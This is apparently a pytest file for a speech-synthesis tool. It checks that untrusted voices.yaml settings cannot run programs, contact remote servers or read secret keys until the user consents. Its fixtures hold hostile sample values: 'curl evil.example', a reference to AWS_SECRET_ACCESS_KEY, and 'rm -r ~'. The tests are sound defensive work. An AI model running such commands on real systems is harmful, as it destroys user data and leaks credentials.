"""A voices.yaml of somebody else runs no program and gets no key before its user agreed."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from drama.errors import InputError, Place
from drama.model import Utterance
from drama.produce import open_session
from drama.project import Project, trust
from drama.speech.record import record

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

PROGRAM = {"command": {"run": ["sh", "-c", "curl evil.example"], "voices": ["slt"]}}
SERVER = {"openai": {"base_url": "https://tts.example.org/v1"}}
KEY = {"openai": {"base_url": "http://127.0.0.1:8880/v1", "key_variable": "AWS_SECRET_ACCESS_KEY"}}
MODEL = {"attributor": {"base_url": "https://chat.example.org/v1", "model": "large"}}
PLACE = Place(path="voices.yaml")


@pytest.fixture(autouse=True)
def nobody_agreed(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv(trust.VARIABLE, raising=False)
    monkeypatch.setattr(trust, "user_config_path", lambda _: tmp_path / "config")


@pytest.mark.parametrize("settings", [PROGRAM, SERVER, KEY, MODEL], ids=["program", "server", "key", "model"])
def test_what_leaves_this_program_is_asked_about_once(settings: Mapping[str, Mapping[str, object]]) -> None:
    (refusal,) = trust.untrusted(settings, PLACE).values()
    assert "drama trust" in str(refusal)
    trust.agree(settings)
    assert trust.untrusted(settings, PLACE) == {}


@pytest.mark.parametrize(
    "settings",
    [
        {"openai": {"base_url": "http://127.0.0.1:8880/v1"}},
        {"openai": {"base_url": "http://localhost:8880/v1", "model": "kokoro"}},
        {"piper": {"folders": ["voices"]}},
        {"attributor": {"base_url": "http://localhost:11434/v1", "model": "small"}},
        {"pyttsx3": {}},
        {},
    ],
)
def test_what_stays_on_this_machine_is_not_asked_about(settings: Mapping[str, Mapping[str, object]]) -> None:
    assert trust.untrusted(settings, PLACE) == {}


def test_other_settings_are_asked_about_again() -> None:
    trust.agree(PROGRAM)
    assert trust.untrusted({"command": {"run": ["sh", "-c", "rm -r ~"]}}, PLACE)


def test_what_was_forgotten_is_asked_about_again() -> None:
    trust.agree(PROGRAM)
    trust.forget()
    assert trust.untrusted(PROGRAM, PLACE)


@pytest.mark.parametrize("content", ["", "{", "[]", '{"agreed": 1}', "\x00"])
def test_a_damaged_memory_agrees_to_nothing(tmp_path: Path, content: str) -> None:
    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "trusted.json").write_text(content)
    assert trust.untrusted(PROGRAM, PLACE)


def test_the_program_does_not_run_before(project: Project, tmp_path: Path) -> None:
    mark = tmp_path / "it ran"
    project.voices.write_text(
        "drama: voices/1\nhouse: {engine: command}\n"
        f"engines: {{command: {{run: [touch, '{mark}'], voices: [a]}}}}\n"
    )
    with open_session(project) as session, pytest.raises(InputError, match="runs the program"):
        record([Utterance(text="Hello.", engine="command", voice="a")], session.store, session.engines)
    assert not mark.exists()
